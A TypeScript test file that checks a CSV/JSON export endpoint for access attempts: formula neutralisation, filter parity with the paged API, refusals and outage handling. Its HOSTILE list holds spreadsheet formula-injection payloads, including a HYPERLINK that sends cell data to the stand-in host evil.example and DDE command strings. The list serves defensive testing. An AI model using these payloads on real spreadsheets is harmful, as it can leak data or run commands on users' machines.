/**
 * `GET /api/v1/attempts/export` and the `origin` and `transport` filters,
 * over real HTTP against a real server: CSV that a spreadsheet cannot run,
 * JSON equal to the paged API, every page of a large filter, and refusals.
 */
import assert from "node:assert/strict";
import { explainRefusal } from "../shared/close_explanations.ts";
import type { Attempt } from "../shared/protocol.ts";
import { attemptInput, startTestServer, switchableKv, type TestServer } from "./helpers.ts";

/** Splits RFC 4180 CSV into rows of cells (quoted cells may hold commas, quotes, breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"', i++);
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") (row.push(cell), cell = "");
    else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell), rows.push(row), row = [], cell = "", i++;
    } else cell += ch;
  }
  assert.equal(cell + row.join(""), "", "the CSV ends with a line break");
  return rows;
}

async function get(server: TestServer, path: string, token?: string) {
  const headers: Record<string, string> = {};
  if (token) headers.authorization = `Bearer ${token}`;
  const res = await fetch(new URL(path, server.url), { headers });
  return { res, text: await res.text() };
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  'Mozilla/5.0 (X11; "quoted", with comma)\nsecond line',
];

Deno.test("GET /api/v1/attempts/export?format=csv neutralises formulas in hostile user agents and origins", async () => {
  await using server = await startTestServer();
  const token = await server.mint();
  const at = Date.now() - 60_000;
  for (const [i, text] of HOSTILE.entries()) {
    await server.deps.attempts.record(attemptInput({
      at: at + i,
      reason: "bad_origin",
      transport: "upgrade",
      origin: text,
      userAgent: text,
      tokenId: `tid-${i}`,
    }));
  }
  await server.deps.attempts.record(attemptInput({ at: at + 100, user: "=bob", tokenId: "-x" }));

  const { res, text } = await get(server, "/api/v1/attempts/export?format=csv", token);
  assert.equal(res.status, 200, text);
  assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
  assert.match(
    res.headers.get("content-disposition") ?? "",
    /^attachment; filename="lookout-attempts-[\w-]+\.csv"$/,
  );
  assert.equal(res.headers.get("cache-control"), "no-store");
  const [header, ...rows] = parseCsv(text);
  assert.deepEqual(header, [
    "id",
    "at",
    "outcome",
    "reason",
    "user",
    "ip",
    "transport",
    "origin",
    "userAgent",
    "tokenId",
    "durationMs",
  ]);
  assert.equal(rows.length, HOSTILE.length + 1);
  // Newest first: the "=bob" row, then the hostile ones from the last.
  assert.equal(rows[0][4], "'=bob");
  assert.equal(rows[0][9], "'-x");
  for (const [i, row] of rows.slice(1).entries()) {
    const hostile = HOSTILE[HOSTILE.length - 1 - i];
    const expected = /^[=+\-@\t]/.test(hostile) ? `'${hostile}` : hostile;
    assert.equal(row[7], expected, "origin");
    assert.equal(row[8], expected, "user agent");
    assert.equal(row[3], "bad_origin");
    assert.equal(row[6], "upgrade");
    assert.match(row[1], /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  }
  // No cell a spreadsheet would run: each starts with something other than = + - @ tab.
  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
});

Deno.test("GET /api/v1/attempts/export?format=json streams every match of the filter, past one page", async () => {
  await using server = await startTestServer();
  const token = await server.mint();
  const start = Date.now() - 3_600_000;
  await Promise.all(Array.from({ length: 620 }, (_, i) =>
    server.deps.attempts.record(attemptInput({
      at: start + i * 1000,
      transport: i % 2 ? "header" : "message",
      origin: i % 3 ? "https://ok.example" : null,
      userAgent: `agent ${i}`,
    }))));

  const all = await get(server, "/api/v1/attempts/export?format=json", token);
  assert.equal(all.res.status, 200, all.text);
  assert.equal(all.res.headers.get("content-type"), "application/json");
  assert.match(all.res.headers.get("content-disposition") ?? "", /^attachment; .*\.json"$/);
  const items: Attempt[] = JSON.parse(all.text);
  assert.equal(items.length, 620);
  assert.deepEqual(
    items.map((a) => a.userAgent),
    Array.from({ length: 620 }, (_, i) => `agent ${619 - i}`),
  );

  // The filters narrow the export exactly as they narrow the API.
  const q = "transport=header&origin=https%3A%2F%2Fok.example";
  const filtered: Attempt[] = JSON.parse(
    (await get(server, `/api/v1/attempts/export?format=json&${q}`, token)).text,
  );
  const expected = items.filter((a) =>
    a.transport === "header" && a.origin === "https://ok.example"
  );
  assert.ok(expected.length > 100);
  assert.deepEqual(filtered, expected);
  const page = JSON.parse((await get(server, `/api/v1/attempts?limit=500&${q}`, token)).text);
  assert.deepEqual(page.items, expected.slice(0, page.items.length));
  assert.ok(page.items.length > 0);

  const none = await get(server, "/api/v1/attempts/export?format=json&transport=api_key", token);
  assert.equal(none.res.status, 200, none.text);
  assert.deepEqual(JSON.parse(none.text), []);
  const csv = await get(server, "/api/v1/attempts/export?format=csv&transport=login", token);
  assert.equal(
    csv.text,
    "id,at,outcome,reason,user,ip,transport,origin,userAgent,tokenId,durationMs\r\n",
  );
});

Deno.test("GET /api/v1/attempts/export refuses a bad format, a page parameter and an unknown filter with 400", async () => {
  await using server = await startTestServer();
  const token = await server.mint();
  const cases: [string, string][] = [
    ["", "format"],
    ["format=xlsx", "format"],
    ["format=csv&limit=10", "limit"],
    ["format=csv&cursor=01ARZ3NDEKTSV4RRFFQ69G5FAV", "cursor"],
    ["format=csv&transport=carrier_pigeon", "transport"],
    ["format=json&colour=red", ""],
  ];
  for (const [qs, path] of cases) {
    const { res, text } = await get(server, `/api/v1/attempts/export?${qs}`, token);
    assert.equal(res.status, 400, qs);
    const body = JSON.parse(text);
    assert.equal(body.error, "invalid_request");
    assert.ok(body.issues.some((i: { path: string }) => i.path === path), `${qs}: ${text}`);
  }
  const bad = await get(server, "/api/v1/attempts?transport=pigeon", token);
  assert.equal(bad.res.status, 400);
  const anon = await get(server, "/api/v1/attempts/export?format=csv");
  assert.equal(anon.res.status, 401);
  assert.deepEqual(JSON.parse(anon.text), {
    error: "unauthorized",
    reason: "missing_token",
    message: explainRefusal("missing_token"),
  });
});

Deno.test("GET /api/v1/attempts/export answers 503 unavailable, not a cut 200 download, while KV is down", async () => {
  const real = await Deno.openKv(":memory:");
  const store = switchableKv(real);
  await using server = await startTestServer({}, { kv: store.kv });
  try {
    const token = await server.mint();
    await server.deps.attempts.record(attemptInput());
    store.down = true;
    const { res, text } = await get(server, "/api/v1/attempts/export?format=csv", token);
    assert.equal(res.status, 503, text);
    assert.equal(JSON.parse(text).error, "unavailable");
    assert.equal(res.headers.get("content-disposition"), null);
    store.down = false;
    const back = await get(server, "/api/v1/attempts/export?format=csv", token);
    assert.equal(back.res.status, 200);
    assert.equal(back.text.trimEnd().split("\r\n").length, 2);
  } finally {
    store.down = false;
  }
});
